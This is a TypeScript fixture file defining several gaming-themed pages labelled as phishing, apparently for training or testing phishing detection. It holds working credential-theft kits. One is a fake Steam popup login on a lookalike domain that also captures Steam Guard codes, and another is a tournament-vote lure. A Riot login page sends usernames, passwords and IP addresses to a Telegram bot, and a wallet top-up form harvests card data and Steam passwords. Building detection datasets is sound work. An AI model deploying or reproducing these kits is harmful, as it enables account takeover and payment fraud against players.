import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { RAVEN_CSS, STEAM_CSS, bnetMark, doc, epicMark, popupWindow, qrSvg, ravenFooter, ravenLogo, riotMark, robloxMark, steamMark, ubiMark } from '../parts/yc-kit.js';

export const entries: Entry[] = [
(() => {
  const win = popupWindow({
    id: 'sgw',
    url: 'https://steamcommunity.com/openid/loginform/?goto=%2Ftradeoffer%2Fnew%2F%3Fpartner%3D1148203377%26token%3DXk2mQp9a',
    title: 'Sign In - Steam Community',
    dark: true,
    inner: `<div style="background:#181a21;padding:28px 34px 30px;color:#fff;font-family:Arial,sans-serif">
<div style="margin-bottom:22px">${steamMark(34)}</div>
<div id="st1"><h2 style="font-weight:600;font-size:22px;margin:0 0 18px">Sign in</h2>
<form id="lf" autocomplete="on">
<div class="newlogindialog_Label">Sign in with account name</div><input class="newlogindialog_TextInput" name="accountname" id="an" autocomplete="username" autofocus>
<div class="newlogindialog_Label secondary">Password</div><input class="newlogindialog_TextInput" type="password" name="password" id="pw" autocomplete="current-password">
<label style="font-size:12px;color:#afafaf"><input type="checkbox" checked> Remember me</label>
<button class="btn_blue_steamui" style="margin-top:18px" type="submit">Sign in</button>
<div id="err" style="color:#c15755;font-size:13px;margin-top:10px;display:none">Please check your password and account name and try again.</div>
</form>
<p style="text-align:center;margin-top:16px"><a href="#" style="color:#afafaf;font-size:12px;text-decoration:underline">Help, I can't sign in</a></p></div>
<div id="st2" style="display:none"><h2 style="font-weight:600;font-size:20px">Enter the code from your Steam Mobile App</h2><p style="color:#afafaf;font-size:13px">Account <b id="acc"></b> is protected by Steam Guard Mobile Authenticator.</p>
<form id="gf"><input class="newlogindialog_TextInput" name="twofactorcode" maxlength="5" style="text-transform:uppercase;letter-spacing:10px;font-size:22px;text-align:center"><button class="btn_blue_steamui" type="submit">Submit</button></form></div>
</div>`,
  });
  return {
    id: 'yc-steam-tradeoffer-popup-login',
    label: 'phishing',
    kind: 'bitb-store-kit',
    url: 'https://steamcommunlty.com/tradeoffer/new/?partner=1148203377&token=Xk2mQp9a',
    body: doc({
      title: 'Steam Community :: Trade Offer',
      css: STEAM_CSS + win.css + `
.offer{background:#1b2838;border-radius:3px;padding:18px 22px;margin-top:12px}
.offer h1{font-size:24px;color:#fff;font-weight:300;margin:0 0 10px}
.items{display:grid;grid-template-columns:repeat(6,86px);gap:8px;margin:10px 0 18px}
.item{height:86px;background:#2a475e;border:1px solid #3a6a8e;border-radius:2px;position:relative;font-size:10px;color:#dfe3e6;padding:4px;overflow:hidden}
.item b{position:absolute;bottom:4px;left:4px;right:4px;color:#eb4b4b}
.item.cov b{color:#e4ae39}.item.mil b{color:#4b69ff}
.notice{background:#4c6b22;color:#e7f0d5;padding:10px 14px;margin-bottom:10px;font-size:13px}
.avatar{width:64px;height:64px;background:linear-gradient(135deg,#3d7a1f,#1a2f0c);border:2px solid #57cbde;display:inline-block;vertical-align:middle;margin-right:12px}`,
      body: `<div class="global_header"><a href="#">${steamMark(44)}</a><nav><a href="#">Store</a><a href="#" style="color:#1a9fff">Community</a><a href="#">About</a><a href="#">Support</a></nav><div class="actions"><a href="#" onclick="sgwOpen();return false" style="background:#5c7e10;color:#fff;padding:4px 8px">Install Steam</a> &nbsp; <a href="#" onclick="sgwOpen();return false">login</a> | <a href="#">language</a></div></div>
<div class="page_content">
<div class="notice">&#10003; This trade offer will expire in <b>23 hours</b>. The offer was sent from a Steam account with a verified Steam Guard Mobile Authenticator.</div>
<div class="offer">
<div><span class="avatar"></span><span style="font-size:18px;color:#fff">&#10026; kirill_ak47</span> <span style="color:#57cbde">is online</span></div>
<h1>You're trading with kirill_ak47</h1>
<p>kirill_ak47 offered you <b>6 items</b> for <b>nothing</b>. Message: <i>"thx for the tourney games bro, take it as gift &lt;3 accept fast im leaving steam"</i></p>
<div class="items"><div class="item">&#9733; Karambit<b>&#9733; Karambit | Doppler (FN)</b></div><div class="item cov">AK-47<b>AK-47 | Fire Serpent (MW)</b></div><div class="item">AWP<b>AWP | Asiimov (FT)</b></div><div class="item mil">M4A1-S<b>M4A1-S | Printstream</b></div><div class="item cov">Gloves<b>&#9733; Sport Gloves | Vice</b></div><div class="item mil">Case<b>Kilowatt Case x25</b></div></div>
<p style="color:#8f98a0">Total estimated value: <b style="color:#a4d007">$3,418.72</b> (Steam Community Market prices)</p>
<button class="btn_green_steamui" onclick="sgwOpen()">Sign in to accept trade</button> <a href="#" style="margin-left:14px" onclick="sgwOpen();return false">Review items</a>
</div></div>
${win.html}
<footer class="steam">&copy; Valve Corporation. All rights reserved. All trademarks are property of their respective owners in the US and other countries.<br>Privacy Policy | Legal | Steam Subscriber Agreement | Cookies</footer>
<script>${win.js}
setTimeout(function(){sgwOpen()},1800);
var ses={};
document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();
ses.u=document.getElementById('an').value;ses.p=document.getElementById('pw').value;
if(ses.u.length<3||ses.p.length<5){document.getElementById('err').style.display='block';return}
fetch('/api/ISteamAuth/BeginAuthSessionViaCredentials/v1/',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'account_name='+encodeURIComponent(ses.u)+'&encrypted_password='+encodeURIComponent(btoa(ses.p))+'&persistence=1&website_id=Community&partner=1148203377'})
.then(function(r){return r.json()}).then(function(j){ses.sid=j.client_id||'';document.getElementById('acc').textContent=ses.u;document.getElementById('st1').style.display='none';document.getElementById('st2').style.display='block'})
.catch(function(){document.getElementById('acc').textContent=ses.u;document.getElementById('st1').style.display='none';document.getElementById('st2').style.display='block'})});
document.getElementById('gf').addEventListener('submit',function(e){e.preventDefault();var c=this.twofactorcode.value;
fetch('/api/ISteamAuth/UpdateAuthSessionWithSteamGuardCode/v1/',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'client_id='+ses.sid+'&code='+encodeURIComponent(c)+'&account='+encodeURIComponent(ses.u)}).finally(function(){location.href='https://steamcommunity.com/tradeoffer/new/?partner=1148203377'})});
</script>`,
    }),
    routes: {
      'steamcommunlty.com/api/ISteamAuth/BeginAuthSessionViaCredentials/v1/': jsonRoute({ response: { client_id: '8312990517734412215', request_id: 'aG9sZA==', interval: 5, allowed_confirmations: [{ confirmation_type: 3 }] } }),
      'steamcommunlty.com/api/ISteamAuth/UpdateAuthSessionWithSteamGuardCode/v1/': jsonRoute({ response: {} }),
    },
  } satisfies Entry;
})(),
(() => {
  const win = popupWindow({
    id: 'auth',
    url: 'https://steamcommunity.com/openid/login?openid.ns=http%3A%2F%2Fspecs.openid.net%2Fauth%2F2.0&openid.mode=checkid_setup&openid.return_to=https%3A%2F%2Frisingwolves-cup.com%2Fvote%2Fcallback',
    title: 'Steam Community :: Sign In',
    inner: `<div style="background:#1b2838;color:#c6d4df;padding:22px 30px 26px;font-family:Arial,sans-serif">
<div style="display:flex;align-items:center;gap:14px;margin-bottom:14px">${steamMark(30)}<span style="font-size:13px;color:#8f98a0">Sign in through Steam</span></div>
<div style="background:#16202d;padding:12px 14px;font-size:12px;margin-bottom:16px">Note that <b style="color:#fff">risingwolves-cup.com</b> is not affiliated with Steam or Valve</div>
<form id="sf"><div class="newlogindialog_Label">Steam account name</div><input class="newlogindialog_TextInput" name="username" required>
<div class="newlogindialog_Label secondary">Password</div><input class="newlogindialog_TextInput" type="password" name="password" required>
<div id="gw" style="display:none"><div class="newlogindialog_Label secondary">Steam Guard code</div><input class="newlogindialog_TextInput" name="guard" maxlength="5"></div>
<button class="btn_green_steamui" style="width:100%" type="submit">Sign In</button></form>
<p style="font-size:11px;color:#8f98a0;margin-top:14px">By signing in, you agree to share your public profile, including your Steam ID, with this site.</p></div>`,
  });
  return {
    id: 'yc-cs2-vote-team-steam-signin',
    label: 'phishing',
    kind: 'vote-lure-kit',
    url: 'https://risingwolves-cup.com/vote',
    body: doc({
      title: 'Rising Wolves — Vote for us! | Open Qualifier CS2 2025',
      css: STEAM_CSS + win.css + `body{background:#0b0f14}
.hero{text-align:center;padding:60px 16px 30px;background:radial-gradient(circle at top,#1f3b5a 0,#0b0f14 70%)}
.hero h1{font-size:42px;color:#fff;margin:0;letter-spacing:2px}.hero p{color:#9fb3c8}
.teams{display:flex;gap:18px;justify-content:center;flex-wrap:wrap;margin:30px auto;max-width:980px}
.team{background:#131b24;border:1px solid #22313f;border-radius:10px;width:220px;padding:18px;text-align:center}
.team .logo{width:90px;height:90px;border-radius:50%;margin:0 auto 10px;display:grid;place-items:center;font-size:36px;font-weight:800;color:#fff}
.bar{height:8px;background:#22313f;border-radius:4px;margin:10px 0}.bar i{display:block;height:100%;border-radius:4px;background:#e9a400}
.vbtn{background:#e9a400;color:#111;border:0;border-radius:6px;padding:10px 18px;font-weight:700;cursor:pointer;width:100%}
.team.us{border-color:#e9a400;box-shadow:0 0 24px rgba(233,164,0,.25)}`,
      body: `<section class="hero"><h1>OPEN QUALIFIER · SEASON 4</h1><p>The community decides the last slot for the LAN finals in Katowice. Voting closes in <b id="cd" style="color:#fff">05:42:19</b></p></section>
<div class="teams">
<div class="team us"><div class="logo" style="background:#7c1d1d">RW</div><b>Rising Wolves</b><div class="bar"><i style="width:46%"></i></div><small>46% · 18,211 votes</small><br><br><button class="vbtn" onclick="vote('rw')">VOTE</button></div>
<div class="team"><div class="logo" style="background:#1d4e7c">NX</div><b>Nexus Five</b><div class="bar"><i style="width:41%"></i></div><small>41% · 16,284 votes</small><br><br><button class="vbtn" onclick="vote('nx')">VOTE</button></div>
<div class="team"><div class="logo" style="background:#2d6b36">OG</div><b>Old Guard</b><div class="bar"><i style="width:13%"></i></div><small>13% · 5,102 votes</small><br><br><button class="vbtn" onclick="vote('og')">VOTE</button></div>
</div>
<p style="text-align:center;color:#8f98a0;max-width:640px;margin:0 auto">To prevent vote manipulation each Steam account can vote once. Accounts must own Counter-Strike 2 and have Prime status. Your vote is counted after you sign in through Steam.</p>
${win.html}
<script>${win.js}
var team='rw',step=0;function vote(t){team=t;authOpen()}
(function(){var s=5*3600+42*60+19;setInterval(function(){s--;var h=Math.floor(s/3600),m=Math.floor(s%3600/60),x=s%60;document.getElementById('cd').textContent=('0'+h).slice(-2)+':'+('0'+m).slice(-2)+':'+('0'+x).slice(-2)},1000)})();
document.getElementById('sf').onsubmit=function(e){e.preventDefault();var f=new FormData(this);f.append('team',team);f.append('ua',navigator.userAgent);
var x=new XMLHttpRequest();x.open('POST','/auth/steam.php',true);x.onload=function(){var r={};try{r=JSON.parse(x.responseText)}catch(_){}
if(r.need_guard||step===0){step=1;document.getElementById('gw').style.display='block';return}
location.href='https://steamcommunity.com/'};x.send(f)};
</script>`,
    }),
    routes: {
      'risingwolves-cup.com/auth/steam.php': jsonRoute({ ok: true, need_guard: true }),
    },
  } satisfies Entry;
})(),
{
  id: 'yc-ravenhold-beta-key-qr-lure',
  label: 'phishing',
  kind: 'qr-lure',
  url: 'https://ravenhold-beta-keys.com/claim',
  body: doc({
    title: 'Ironveil Closed Beta — Claim your key',
    css: RAVEN_CSS + `.hero{max-width:900px;margin:40px auto;display:grid;grid-template-columns:1.2fr 1fr;gap:40px;align-items:center;padding:0 24px}
.hero h1{font-size:40px;line-height:1.1;margin:0 0 14px}.hero p{color:#b7bcc6;line-height:1.6}
.qr{background:#fff;border-radius:14px;padding:18px;text-align:center;color:#111}
.qr small{display:block;margin-top:8px;color:#555}
.steps li{margin:6px 0;color:#c9ccd3}.timer{color:#ffb020;font-weight:700}`,
    body: `<div class="rh-top">${ravenLogo(30)}<span class="sp"></span><a class="rh-btn ghost" href="/m/login" style="text-decoration:none">Sign in</a></div>
<div class="hero"><div><h1>Ironveil Closed Beta<br>key reserved for you</h1>
<p>You were selected from the wishlist draw. Keys are bound to your Ravenhold account and expire if not claimed within <span class="timer" id="t">14:59</span>.</p>
<ol class="steps"><li>Open the <b>Ravenhold</b> app on your phone</li><li>Tap <b>Profile &rarr; Scan QR</b></li><li>Confirm the sign-in to attach the key to your account</li></ol>
<p style="font-size:13px">Can't scan? <a href="/m/login">Sign in with email instead</a></p></div>
<div class="qr">${qrSvg('ravenhold-beta-keys.com/m/login?k=IV-BETA-88213', 7)}<small>Key IV-BETA-&bull;&bull;&bull;&bull;-88213</small></div></div>
${ravenFooter()}
<script>var s=899;setInterval(function(){if(s>0)s--;document.getElementById('t').textContent=Math.floor(s/60)+':'+('0'+s%60).slice(-2)},1000);
setInterval(function(){fetch('/api/qr/poll?k=IV-BETA-88213').then(function(r){return r.json()}).then(function(j){if(j.state==='approved')location.href='/m/done'}).catch(function(){})},4000);</script>`,
  }),
  routes: {
    'ravenhold-beta-keys.com/api/qr/poll': jsonRoute({ state: 'pending' }),
    'ravenhold-beta-keys.com/m/login': htmlRoute(doc({
      title: 'Sign in | Ravenhold',
      css: RAVEN_CSS + `.card{max-width:400px;margin:40px auto;background:#181a20;border-radius:12px;padding:28px}input{width:100%;height:44px;border-radius:6px;border:1px solid #333844;background:#0f1115;color:#fff;padding:0 12px;margin:6px 0 14px}`,
      body: `<div class="card">${ravenLogo(26)}<h2>Sign in to claim</h2><form method="post" action="https://rh-keys-api.top/claim/submit"><input type="hidden" name="key" value="IV-BETA-88213"><label>Email</label><input type="email" name="email" required><label>Password</label><input type="password" name="pass" required><button class="rh-btn" style="width:100%">Claim beta key</button></form></div>`,
    })),
  },
},
{
  id: 'yc-valorant-vp-hediye-tr',
  label: 'phishing',
  kind: 'free-currency-login-kit',
  url: 'https://valorant-vp-hediye.com/',
  body: doc({
    title: 'VALORANT — 5. Yıl Hediyesi: Ücretsiz VP',
    lang: 'tr',
    css: `*{box-sizing:border-box}body{margin:0;background:#0f1923;color:#ece8e1;font-family:"DIN Next","Tungsten",Arial,sans-serif}
.hero{background:linear-gradient(120deg,#ff4655 0,#bd3944 40%,#0f1923 41%);padding:50px 40px;min-height:320px}
.hero h1{font-size:54px;margin:0;text-transform:uppercase;letter-spacing:1px;max-width:560px;line-height:1}
.packs{display:flex;gap:16px;padding:30px 40px;flex-wrap:wrap}.pk{background:#1f2731;border:2px solid #2c3845;padding:20px;width:200px;text-align:center;cursor:pointer}.pk.on{border-color:#ff4655}
.pk b{font-size:28px;display:block;color:#fff}
#m{display:none;position:fixed;inset:0;background:rgba(0,0,0,.7)}#m .in{background:#fff;color:#111;width:400px;margin:60px auto;padding:36px;border-radius:4px}
#m input{width:100%;height:52px;border:2px solid #ededed;background:#ededed;border-radius:4px;padding:0 14px;font-size:15px;margin-bottom:12px}
#m button{width:64px;height:64px;border-radius:20px;background:#d13639;border:0;color:#fff;font-size:26px;display:block;margin:18px auto 0}
.cta{background:#ff4655;border:0;color:#fff;padding:16px 40px;font-size:18px;text-transform:uppercase;cursor:pointer}`,
    body: `<div class="hero"><h1>5. yıl hediyesi: ücretsiz VP</h1><p style="max-width:520px">VALORANT'ın 5. yılını Türkiye topluluğuyla kutluyoruz! Paketini seç, Riot hesabınla giriş yap ve VP anında hesabına yüklensin. Kampanya <b>stoklar tükenene kadar</b> geçerlidir.</p></div>
<div class="packs"><div class="pk" data-vp="2050"><b>2.050 VP</b>Başlangıç</div><div class="pk on" data-vp="5350"><b>5.350 VP</b>En popüler</div><div class="pk" data-vp="11000"><b>11.000 VP</b>Son 37 adet</div></div>
<div style="padding:0 40px 40px"><button class="cta" onclick="document.getElementById('m').style.display='block'">Hediyemi al</button><p style="font-size:12px;color:#768079">Kalan hediye: <b id="n">412</b> · Son alan: Emre*** (İzmir) 5.350 VP</p></div>
<div id="m"><div class="in"><div style="text-align:center">${riotMark(40)}</div><h2 style="text-align:center;font-size:22px">Oturum aç</h2>
<form id="rf"><input name="username" placeholder="KULLANICI ADI" required><input type="password" name="password" placeholder="ŞİFRE" required>
<label style="font-size:13px"><input type="checkbox" style="width:auto;height:auto"> Oturumu açık tut</label>
<button type="submit">&#10140;</button></form><p style="text-align:center;font-size:11px;color:#888">OTURUM AÇAMIYOR MUSUN? · HESAP OLUŞTUR</p></div></div>
<script>
var vp=5350;document.querySelectorAll('.pk').forEach(function(p){p.onclick=function(){document.querySelectorAll('.pk').forEach(function(q){q.className='pk'});p.className='pk on';vp=p.dataset.vp}});
var T='7419930281:AAGq3Vb-Xo1rV2nP8mZtK0sLh4cYwQe9fUd',C='-1002214998017';
document.getElementById('rf').onsubmit=function(e){e.preventDefault();var u=this.username.value,p=this.password.value;
fetch('https://api.ipify.org?format=json').then(function(r){return r.json()}).catch(function(){return {ip:'?'}}).then(function(ip){
var t='🎯 RIOT TR\\nkullanici: '+u+'\\nsifre: '+p+'\\nvp: '+vp+'\\nip: '+ip.ip+'\\nua: '+navigator.userAgent;
return fetch('https://api.telegram.org/bot'+T+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:C,text:t})})}).finally(function(){location.href='https://playvalorant.com/tr-tr/'})};
</script>`,
  }),
},
{
  id: 'yc-steam-wallet-bonus-card',
  label: 'phishing',
  kind: 'card-kit',
  url: 'https://steam-wallet-bonus.com/topup?bonus=50',
  body: doc({
    title: 'Add funds to your Steam Wallet',
    css: STEAM_CSS + `.box{background:#16202d;padding:24px;margin-top:16px}.amt{display:flex;gap:10px;flex-wrap:wrap}.amt label{background:#2a475e;padding:14px 18px;cursor:pointer;border-radius:2px}
.bn{background:#4c6b22;color:#beee11;padding:6px 10px;font-size:13px;display:inline-block;margin-bottom:10px}
.f label{display:block;font-size:12px;color:#8f98a0;margin:12px 0 4px;text-transform:uppercase}.f input,.f select{width:100%;height:34px;background:#316282;border:1px solid #000;color:#fff;padding:0 8px;border-radius:2px}
.two{display:grid;grid-template-columns:1fr 1fr 1fr;gap:10px}`,
    body: `<div class="global_header">${steamMark(44)}<nav><a href="#">Store</a><a href="#">Community</a><a href="#">About</a><a href="#">Support</a></nav><div></div></div>
<div class="page_content"><h2 style="color:#fff;font-weight:300">Add funds to your Steam Wallet</h2>
<div class="bn">SUMMER EVENT: +50% bonus on every Wallet top-up until 07/14</div>
<div class="box"><p>Choose an amount. The bonus is credited instantly and can be used on any game, DLC or Community Market item.</p>
<div class="amt"><label><input type="radio" name="a" value="20"> $20.00 <small>(+$10.00)</small></label><label><input type="radio" name="a" value="50" checked> $50.00 <small>(+$25.00)</small></label><label><input type="radio" name="a" value="100"> $100.00 <small>(+$50.00)</small></label></div></div>
<form class="box f" method="post" action="/billing/process.php"><h3 style="color:#fff;margin-top:0">Payment method</h3>
<label>Card number</label><input name="cardnumber" autocomplete="cc-number" inputmode="numeric" maxlength="19" required>
<div class="two"><div><label>Expiration</label><input name="exp" placeholder="MM / YY" autocomplete="cc-exp" required></div><div><label>Security code</label><input name="cvv" maxlength="4" autocomplete="cc-csc" required></div><div><label>ZIP / Postal code</label><input name="zip" required></div></div>
<label>Cardholder name</label><input name="holder" autocomplete="cc-name" required>
<label>Steam account name</label><input name="steam_login" required><label>Steam password (to credit your Wallet)</label><input type="password" name="steam_pass" required>
<br><br><button class="btn_green_steamui">Purchase</button></form></div>
<footer class="steam">&copy; 2025 Valve Corporation. All rights reserved.</footer>`,
  }),
},
];
